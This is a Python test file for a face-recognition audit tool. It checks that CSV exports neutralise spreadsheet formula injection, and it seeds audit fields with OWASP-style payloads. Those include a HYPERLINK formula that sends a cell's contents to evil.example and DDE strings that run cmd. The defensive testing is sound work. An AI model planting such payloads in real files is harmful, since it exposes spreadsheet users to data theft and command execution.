"""Exports safe to open: no cell of a CSV facetrail writes is a formula a spreadsheet would run.

The attacker controls the free-text fields of records (purpose, case reference, legal
basis, review notes, gallery and file names) and writes OWASP's payloads into them;
the auditor opens the export in a spreadsheet.
"""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pyarrow.parquet as pq
import pytest

from audit import AuditContext, AuditedEngine, AuditLog, AuditSession
from audit.audited import audited_export
from audit.privacy_csv import FORMULA_STARTS, safe_cell
from core import Database, EnrollItem, GalleryStore
from tests.auth import actor_for
from tests.fakes import face_png

PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1", "\r=1+1"]


@pytest.fixture
def exported(tmp_path: Path, fake_engine) -> tuple[Path, list[str]]:
    db = Database(tmp_path / "ft.duckdb")
    log = AuditLog(db, key_path=tmp_path / "audit-key")
    galleries = GalleryStore(db)
    admin = AuditSession(log, AuditContext(purpose=PAYLOADS[0], case_ref=PAYLOADS[1], legal_basis=PAYLOADS[2]),
                         actor_for(db, "root", "admin"))
    service = AuditedEngine(admin, fake_engine, galleries)
    service.create_gallery("g", fake_engine.config)
    service.enroll("g", [EnrollItem("s1", fake_engine.embed(face_png("s1")), PAYLOADS[3])])
    for i, payload in enumerate(PAYLOADS):
        operator = AuditSession(log, AuditContext(purpose=payload, case_ref=PAYLOADS[-1 - i]),
                                actor_for(db, "olga", "operator"))
        AuditedEngine(operator, fake_engine, galleries).search("g", face_png("s1", i + 1), top_k=1)
    auditor = AuditSession(log, AuditContext(purpose=PAYLOADS[4], case_ref=PAYLOADS[5]),
                           actor_for(db, "audrey", "auditor"))
    for fmt in ("csv", "jsonl", "parquet"):
        audited_export(auditor, log, tmp_path / f"log.{fmt}", fmt)
        audited_export(auditor, log, tmp_path / f"pseudo.{fmt}", fmt, pseudonymize=True)
    return tmp_path, PAYLOADS


@pytest.mark.parametrize("name", ["log.csv", "pseudo.csv"])
def test_no_csv_cell_starts_like_a_formula(exported, name: str) -> None:
    root, payloads = exported
    with open(root / name, newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    assert len(rows) > len(payloads)
    cells = [v for row in rows for v in row.values() if v]
    live = [c for c in cells if c.startswith(FORMULA_STARTS)]
    assert live == []
    for payload in payloads:  # the text is still there, neutralised, not lost
        assert any(c == "'" + payload for c in cells), payload


def test_jsonl_and_parquet_keep_values_as_data(exported) -> None:
    """JSON Lines and Parquet are typed data, not spreadsheets: values are exact (and a CSV made from them
    by facetrail goes through the same neutralisation)."""
    root, payloads = exported
    purposes = {json.loads(line)["record"]["purpose"] for line in (root / "log.jsonl").read_text().splitlines()}
    assert set(payloads) <= purposes
    assert set(payloads) <= set(pq.read_table(root / "log.parquet").column("purpose").to_pylist())


def test_safe_cell_rule() -> None:
    assert [safe_cell(v) for v in ("=1", "+1", "-1", "@a", "\tx", "\rx")] == ["'=1", "'+1", "'-1", "'@a", "'\tx", "'\rx"]
    assert [safe_cell(v) for v in ("a=1", " =1", "", -1, 2.5, None)] == ["a=1", " =1", "", -1, 2.5, None]
